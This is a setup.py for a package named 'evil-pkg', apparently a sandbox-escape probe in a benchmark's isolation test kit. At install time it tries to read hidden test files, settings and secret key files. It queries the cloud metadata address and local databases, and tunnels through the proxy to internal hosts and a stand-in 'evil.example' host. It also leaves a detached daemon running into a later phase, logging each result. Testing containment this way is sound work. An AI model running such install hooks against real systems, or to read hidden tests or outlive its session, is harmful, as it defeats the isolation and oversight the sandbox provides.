"""Runs at install time (uv builds this local package from source). It hunts for a way out."""
import os
import sys
import time
from pathlib import Path

from setuptools import setup

# setuptools runs this file after replacing every backslash-r-backslash-n in its text with backslash-n: spell CRLF out.
CRLF = "\x0d\x0a"


def find_repo():
    """The submission's root: up from here, or up from the installer's working folder."""
    starts = [Path(__file__).resolve().parent, Path.cwd()]
    pid = os.getppid()
    for _ in range(8):
        try:
            starts.append(Path(os.readlink(f"/proc/{pid}/cwd")))
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
    for start in starts:
        for folder in (start, *start.parents):
            if (folder / "hostile_targets.json").is_file():
                return folder
    return None


def through_proxy(kit, request: bytes, label: str) -> None:
    proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy")
    if not proxy:
        kit.record("note", "no proxy in the install environment")
        return
    host, _, port = proxy.split("//", 1)[-1].rstrip("/").rpartition(":")
    import socket

    try:
        with socket.create_connection((host, int(port)), timeout=5) as sock:
            sock.sendall(request)
            reply = sock.recv(200)
    except OSError as exc:
        kit.record("blocked", f"proxy {label}", exc)
        return
    allowed = reply.startswith(b"HTTP/1.1 200") or reply.startswith(b"HTTP/1.0 200")
    kit.record("reached" if allowed else "blocked", f"proxy {label}", reply[:60])


def daemon(kit, repo: Path) -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    devnull = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    os.closerange(3, 1024)
    kit.record("note", "install daemon detached", os.getpid())
    while True:
        if (repo / ".hostile-service-started").exists():
            kit.record("breached", "an install-time daemon is still running in the service phase")
        for path in kit.TARGETS["forbidden_new"]:
            try:
                open(path, "x").close()
            except OSError:
                pass
        time.sleep(0.5)


repo = find_repo()
if repo is not None:
    sys.path.insert(0, str(repo))
    import hostile_kit as kit

    t = kit.TARGETS
    kit.record("note", "setup.py ran at install time", f"uid {os.getuid()} cwd {os.getcwd()}")
    for path in t["forbidden_new"]:
        kit.try_create(path)
    kit.try_append(t["canary_file"])
    kit.try_append(t["work_root_canary"])
    for path in (f"{t['hidden_dir']}/tests/test_todos.py", f"{t['benchmark_hidden_dir']}/tests/test_todos.py",
                 t["settings_file"], t["secret_key_file"], t["media_canary_file"], t["canary_file"]):
        kit.try_read(path, 2000)
    kit.redis_set("127.0.0.1")
    kit.pg_startup("127.0.0.1")
    kit.http_get("169.254.169.254", 80, "/latest/meta-data/", label="metadata")
    kit.http_get("1.1.1.1", 80, label="internet")
    for target in ("169.254.169.254:80", "169.254.169.254:443", "127.0.0.1:6379", "127.0.0.1:443", "localhost:5432",
                   "pypi.org:80", "example.com:443", "pypi.org.evil.example:443",
                   *[f"[{ip}]:{port}" if ":" in ip else f"{ip}:{port}" for ip in t["host_ips"] for port in (22, 443)]):
        through_proxy(kit, f"CONNECT {target} HTTP/1.1{CRLF}Host: {target}{CRLF}{CRLF}".encode(), f"CONNECT {target}")
    through_proxy(kit, f"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1{CRLF}Host: 169.254.169.254{CRLF}{CRLF}"
                  .encode(), "plain GET to the metadata address")
    daemon(kit, repo)

setup(name="evil-pkg", version="0.1", py_modules=[])
